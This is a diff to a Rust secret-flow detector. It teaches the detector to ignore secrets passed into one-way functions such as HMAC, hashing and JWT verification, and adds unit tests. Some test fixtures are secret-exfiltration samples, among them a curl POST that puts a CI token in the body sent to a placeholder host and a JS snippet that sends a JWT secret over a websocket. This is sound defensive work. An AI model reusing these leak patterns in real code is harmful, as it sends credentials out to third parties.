@@ -171,6 +171,47 @@ fn source_of(line: &str) -> Option<&'static str> {
     }
 }
 
+re!(
+    /// A call of a one-way function of a secret: a signature, a digest, a password hash or check, a token's
+    /// verification (`jwt.verify(token, process.env.JWT_SECRET)`, `hmac.new(key, body, hashlib.sha256)`,
+    /// `crypto.createHmac('sha256', secret)`). What it returns is not the secret.
+    ONE_WAY_CALL,
+    r"(?:\bhmac\.(?:new|digest)|\bhashlib\.\w+|\b(?:jwt|jose|bcrypt|argon2|crypto|hashlib|nacl|ed25519|hmac)\.[\w.]*?(?:verify|sign|hash|hashpw|checkpw|compare|compareSync|hashSync|createHmac|createHash|pbkdf2_hmac|pbkdf2Sync|scrypt|scryptSync)|\b(?:createHmac|createHash|pbkdf2_hmac|pbkdf2Sync|scryptSync|hashpw|checkpw))\s*\("
+);
+
+/// `line` with the arguments of every one-way call taken out (`jwt.verify()`): a secret handed to one goes no
+/// further, while the same secret anywhere else on the line is still read.
+fn without_one_way_arguments(line: &str) -> std::borrow::Cow<'_, str> {
+    if !ONE_WAY_CALL.is_match(line) {
+        return std::borrow::Cow::Borrowed(line);
+    }
+    let mut out = String::with_capacity(line.len());
+    let mut last = 0;
+    for m in ONE_WAY_CALL.find_iter(line) {
+        if m.start() < last {
+            continue;
+        }
+        // The matching close bracket; with none, the rest of the line is the call's.
+        let mut depth = 0usize;
+        let mut end = line.len();
+        for (i, c) in line[m.end()..].char_indices() {
+            match c {
+                '(' => depth += 1,
+                ')' if depth == 0 => {
+                    end = m.end() + i;
+                    break;
+                }
+                ')' => depth -= 1,
+                _ => {}
+            }
+        }
+        out.push_str(&line[last..m.end()]);
+        last = end;
+    }
+    out.push_str(&line[last..]);
+    std::borrow::Cow::Owned(out)
+}
+
 /// A flow from a secret to a network send: (source line, what, sink line).
 pub(super) fn secret_flows(code: &str, first_line: u32) -> Vec<(u32, &'static str, u32)> {
     flows_from(code, first_line, &[])
@@ -215,6 +256,7 @@ pub(super) fn flows_from(
         let line = joined.as_deref().unwrap_or(line);
         // The environment handed to a child process (`run(cmd, env=env)`) is that process's own, not sent.
         let line = &*CHILD_ENV.replace_all(line, "$1");
+        let line = &*without_one_way_arguments(line);
         let here = source_of(line);
         let used = tainted.iter().find(|(v, _, _, _)| mentions(line, v));
         let from_var = used.map(|(_, l, what, _)| (*l, *what));
@@ -301,7 +343,7 @@ fn replace_name(line: &str, var: &str, with: &str) -> String {
 
 /// Where a secret is read in one line, for the skill-wide pass: what it is.
 pub(super) fn reads_secret(line: &str) -> Option<&'static str> {
-    source_of(&CHILD_ENV.replace_all(line, "$1"))
+    source_of(&without_one_way_arguments(&CHILD_ENV.replace_all(line, "$1")))
 }
 
 /// The code's statements, a call whose arguments span lines joined into one (at most 20 lines), each with the
@@ -782,6 +824,39 @@ mod tests {
         );
         let sh = "curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/user\n";
         assert!(secret_flows(sh, 1).is_empty());
+        // A header named for the token it carries is the credential's place; the same token in the body leaves.
+        let circle = "curl -X POST \\\n  \"https://circleci.com/api/v2/project/${slug}/pipeline\" \\\n  -H \"Circle-Token: ${CIRCLE_TOKEN}\" \\\n  -d \"{\\\"branch\\\": \\\"main\\\"}\"\n";
+        assert!(
+            secret_flows(circle, 1).is_empty(),
+            "{:?}",
+            secret_flows(circle, 1)
+        );
+        let body =
+            "curl -X POST https://x.example/p -H \"Content-Type: text/plain\" -d \"${CIRCLE_TOKEN}\"\n";
+        assert_eq!(
+            secret_flows(body, 1),
+            vec![(1, "a secret environment variable", 1)]
+        );
+        // What a one-way function makes of a secret (a verified token's claims, a signature, a digest) is not the
+        // secret; the secret itself sent stays a flow.
+        let verified =
+            "const payload = jwt.verify(token, process.env.JWT_SECRET);\nws.send(JSON.stringify(payload));\n";
+        assert!(
+            secret_flows(verified, 1).is_empty(),
+            "{:?}",
+            secret_flows(verified, 1)
+        );
+        let signed = "sig = hmac.new(os.environ['WEBHOOK_SECRET'].encode(), body, hashlib.sha256).hexdigest()\nrequests.post(url, data=body, headers={'X-Signature': sig})\n";
+        assert!(
+            secret_flows(signed, 1).is_empty(),
+            "{:?}",
+            secret_flows(signed, 1)
+        );
+        let leaked = "const s = process.env.JWT_SECRET;\nconst payload = jwt.verify(token, s) && s;\nws.send(payload);\n";
+        assert_eq!(
+            secret_flows(leaked, 1),
+            vec![(1, "a secret environment variable", 3)]
+        );
         let plain = "import os\nprint(os.environ.get('HOME'))\nrequests.get('https://api.x.invalid')\n";
         assert!(secret_flows(plain, 1).is_empty());
     }
